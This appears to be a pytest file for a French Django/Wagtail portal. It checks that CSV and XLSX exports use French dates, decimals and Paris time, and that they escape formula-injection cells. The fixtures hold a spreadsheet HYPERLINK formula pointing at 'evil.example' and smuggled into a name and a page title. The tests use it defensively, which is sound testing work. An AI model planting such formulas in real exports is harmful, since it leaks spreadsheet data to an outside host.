"""Every spreadsheet the portal offers opens right in a French Excel (#18): its CSVs are UTF-8 with a BOM,
`;`-separated, with dates jj/mm/aaaa and times HH:MM in Paris time and decimals with a comma; its XLSX hold
numbers as number cells (hours attested: 1.5, not « 1 h 30 ») and dates as date cells, in Paris time."""

import codecs
import csv
import datetime
import io
import re
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.redirects.models import Redirect

from candidates.attestations import services as attestation_services
from candidates.journal import services as journal
from candidates.models import AuditEvent
from candidates.spreadsheets import csv_cell

from .factories import CandidateFactory, DABMFactory

openpyxl = pytest.importorskip("openpyxl")

pytestmark = pytest.mark.django_db

PARIS = ZoneInfo("Europe/Paris")
CANDIDATES = "/admin/candidates/dossier/"
ATTESTATIONS = "/admin/candidates/attestation/"
JOURNAL = "/admin/journal/"
REPORTS = ["/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/redirects/"]
DATE = re.compile(r"\d{2}/\d{2}/\d{4}")
DATETIME = re.compile(r"\d{2}/\d{2}/\d{4} \d{2}:\d{2}")
TIME = re.compile(r"\d{2}:\d{2}")
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'


@pytest.fixture
def sessions(counsellor, candidate):
    """Lucas BERNARD (2 sept.–31 déc. 2026), attested 1 h 30 on 5 October from 09:00, Paris time;
    Emma PETIT, attested nothing yet; a candidate whose first name is a formula, attested 3 h."""
    nimes = DABMFactory(name="NÎMES")
    candidate.dossier.dabm = nimes
    candidate.dossier.start_date = datetime.date(2026, 9, 2)
    candidate.dossier.save()
    CandidateFactory(first_name="Emma", last_name="PETIT", dossier__counsellor=counsellor, dossier__dabm=nimes)
    formula = CandidateFactory(first_name=FORMULA, last_name="FORMULE", dossier__counsellor=counsellor)
    for person, day, end in [(candidate, 5, (10, 30)), (formula, 6, (12, 0))]:
        attestation_services.attestation_create(
            counsellor=counsellor,
            dossier=person.dossier,
            start=datetime.datetime(2026, 10, day, 9, tzinfo=PARIS),
            end=datetime.datetime(2026, 10, day, *end, tzinfo=PARIS),
        )
    journal.record(candidate, journal.Action.ANSWERS_SAVED, candidate=candidate)


def body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def french_csv(response) -> list[dict]:
    """The rows of a French CSV, after checking its BOM, its `;` and that no cell holds an ISO date."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    content = body(response)
    assert content.startswith(codecs.BOM_UTF8)
    text = content[len(codecs.BOM_UTF8) :].decode("utf-8")
    heading, *rows = csv.reader(io.StringIO(text), delimiter=";")
    assert len(heading) > 1 and not any("," in cell for cell in heading)  # cut at `;`, not at `,`
    assert all(len(row) == len(heading) for row in rows)
    assert not [cell for row in rows for cell in row if ISO_DATE.match(cell)]
    return [dict(zip(heading, row, strict=True)) for row in rows]


def xlsx_rows(response) -> list[dict]:
    """The cells of the XLSX's one sheet, by heading."""
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    heading, *rows = sheet.iter_rows()
    return [dict(zip([cell.value for cell in heading], row, strict=True)) for row in rows]


def assert_number(cell, value):
    assert cell.data_type == "n" and cell.value == value and not cell.is_date, (cell.value, cell.data_type)


def assert_date(cell, value, number_format):
    assert cell.is_date and cell.value == value and cell.number_format == number_format, (cell.value,)


# The counsellor's list of attestations -------------------------------------------------------------


def test_the_counsellors_attestation_csv_is_french(client, counsellor, sessions):
    client.force_login(counsellor)
    rows = french_csv(client.get(reverse("attestations:list"), {"format": "csv"}))
    by_name = {row["Nom"]: row for row in rows}
    lucas = by_name["BERNARD"]
    assert (lucas["Date"], lucas["Début"], lucas["Fin"]) == ("05/10/2026", "09:00", "10:30")  # Paris time
    assert lucas["Durée (minutes)"] == "90" and lucas["Durée"] == "1 h 30"
    assert lucas["DABM"] == "NÎMES" and lucas["Au-delà de 24 h"] == "non"
    for row in rows:
        assert DATE.fullmatch(row["Date"]) and TIME.fullmatch(row["Début"]) and TIME.fullmatch(row["Fin"])
    assert by_name["FORMULE"]["Prénom"] == f"'{FORMULA}"  # still escaped


# The admin's listings ------------------------------------------------------------------------------


def test_the_candidates_csv_is_french(client, administrator, sessions):
    client.force_login(administrator)
    rows = {row["Candidat"]: row for row in french_csv(client.get(CANDIDATES, {"export": "csv"}))}
    lucas = rows["Lucas BERNARD"]
    assert (lucas["Début"], lucas["Fin"]) == ("02/09/2026", "31/12/2026")
    assert lucas["Heures attestées"] == "1,5" and lucas["DABM"] == "NÎMES"
    assert rows["Emma PETIT"]["Heures attestées"] == "0"  # not ModelAdmin's « - »
    assert f"'{FORMULA} FORMULE" in rows


def test_the_candidates_xlsx_holds_numbers_and_dates(client, administrator, sessions):
    client.force_login(administrator)
    rows = {row["Candidat"].value: row for row in xlsx_rows(client.get(CANDIDATES, {"export": "xlsx"}))}
    lucas = rows["Lucas BERNARD"]
    assert_date(lucas["Début"], datetime.datetime(2026, 9, 2), "DD/MM/YYYY")
    assert_date(lucas["Fin"], datetime.datetime(2026, 12, 31), "DD/MM/YYYY")
    assert_number(lucas["Heures attestées"], 1.5)
    assert_number(rows["Emma PETIT"]["Heures attestées"], 0)
    assert rows[f"{FORMULA} FORMULE"]["Candidat"].data_type == "s"  # a formula typed as a name stays text


def test_the_admin_attestations_csv_is_french(client, administrator, sessions):
    client.force_login(administrator)
    rows = {row["Candidat"]: row for row in french_csv(client.get(ATTESTATIONS, {"export": "csv"}))}
    lucas = rows["Lucas BERNARD"]
    assert (lucas["Début"], lucas["Fin"]) == ("05/10/2026 09:00", "05/10/2026 10:30")
    assert lucas["Durée (heures)"] == "1,5" and lucas["Au-delà de 24 heures"] == "non"
    assert rows[f"'{FORMULA} FORMULE"]["Durée (heures)"] == "3"
    assert all(DATETIME.fullmatch(row["Début"]) for row in rows.values())


def test_the_admin_attestations_xlsx_holds_numbers_and_dates(client, administrator, sessions):
    client.force_login(administrator)
    rows = {row["Candidat"].value: row for row in xlsx_rows(client.get(ATTESTATIONS, {"export": "xlsx"}))}
    lucas = rows["Lucas BERNARD"]
    assert_date(lucas["Début"], datetime.datetime(2026, 10, 5, 9, 0), "DD/MM/YYYY HH:MM")  # Paris, not UTC
    assert_date(lucas["Fin"], datetime.datetime(2026, 10, 5, 10, 30), "DD/MM/YYYY HH:MM")
    assert_number(lucas["Durée (heures)"], 1.5)
    assert_number(rows[f"{FORMULA} FORMULE"]["Durée (heures)"], 3)
    assert lucas["Au-delà de 24 heures"].value is False


def test_the_journal_exports_are_french(client, administrator, candidate, sessions):
    client.force_login(administrator)
    [event] = AuditEvent.objects.filter(candidate_id=candidate.pk, action=AuditEvent.Action.ANSWERS_SAVED)
    rows = french_csv(client.get(JOURNAL, {"candidate_id": candidate.pk, "export": "csv"}))
    [row] = [row for row in rows if row["Action"] == "réponses enregistrées"]
    assert row["Date"] == f"{timezone.localtime(event.created_at):%d/%m/%Y %H:%M}"
    assert row["Candidat n°"] == str(candidate.pk)

    [cells] = [
        cells
        for cells in xlsx_rows(client.get(JOURNAL, {"candidate_id": candidate.pk, "export": "xlsx"}))
        if cells["Action"].value == "réponses enregistrées"
    ]
    assert cells["Date"].is_date and cells["Date"].number_format == "DD/MM/YYYY HH:MM"
    local = timezone.localtime(event.created_at).replace(tzinfo=None)
    assert abs(cells["Date"].value - local) < datetime.timedelta(seconds=1)
    assert_number(cells["Candidat n°"], candidate.pk)


# Wagtail's own reports ---------------------------------------------------------------------------------


@pytest.fixture
def edited_pages(bilan, editor, administrator):
    page = bilan.get_children().first().specific
    page.title = FORMULA
    page.save_revision(user=editor).publish(user=administrator)
    Redirect.objects.create(old_path="/ancienne-page", redirect_page=page)
    return page


@pytest.mark.parametrize("url", REPORTS)
def test_wagtail_report_csvs_are_french(client, administrator, edited_pages, url):
    client.force_login(administrator)
    rows = french_csv(client.get(url, {"export": "csv"}))
    assert rows
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    if url != "/admin/redirects/":
        assert [cell for cell in cells if DATETIME.fullmatch(cell)]


def test_wagtail_report_xlsx_hold_dates(client, administrator, edited_pages):
    client.force_login(administrator)
    rows = xlsx_rows(client.get("/admin/reports/site-history/", {"export": "xlsx"}))
    assert rows and all(row["Date/Heure"].is_date for row in rows)
    published = max(row["Date/Heure"].value for row in rows)
    assert abs(published - timezone.localtime().replace(tzinfo=None)) < datetime.timedelta(minutes=5)  # Paris


# The cells ---------------------------------------------------------------------------------------------


def test_csv_cells_the_french_way():
    assert csv_cell(datetime.datetime(2026, 3, 30, 7, 0, tzinfo=datetime.UTC)) == "30/03/2026 09:00"
    assert csv_cell(datetime.datetime(2026, 3, 30, 22, 30, tzinfo=datetime.UTC)) == "31/03/2026 00:30"
    assert csv_cell(datetime.date(2026, 3, 1)) == "01/03/2026"
    assert csv_cell(datetime.time(9, 5)) == "09:05"
    assert [csv_cell(value) for value in (1.5, 5.0, 0.33, 12, -2, 0)] == ["1,5", "5", "0,33", "12", "-2", "0"]
    assert [csv_cell(value) for value in (True, False, None, "")] == ["oui", "non", "", ""]
    assert [csv_cell(value) for value in ("=1+1", "+1", "-1", "@A1", "\tx", "Hélène")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "Hélène",
    ]
